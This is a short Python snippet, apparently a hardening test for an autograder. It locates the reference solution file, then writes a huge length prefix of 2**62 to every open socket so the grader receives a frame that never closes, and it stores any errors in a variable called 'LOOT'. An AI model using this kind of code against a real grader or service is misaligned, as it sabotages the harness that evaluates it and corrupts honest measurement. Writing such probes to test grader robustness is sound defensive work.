# Announce an enormous frame and then close nothing (a length the grader must refuse).
# %%
import os, sys, autograder
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
SOLUTION = os.path.join(ROOT, 'solutions', 'a1', 'solution.py')
LOOT = ''
try:
    import stat, struct
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack('!Q', 2**62))
        except OSError:
            pass
except BaseException as exc:
    LOOT += f' [{type(exc).__name__}: {exc}]'
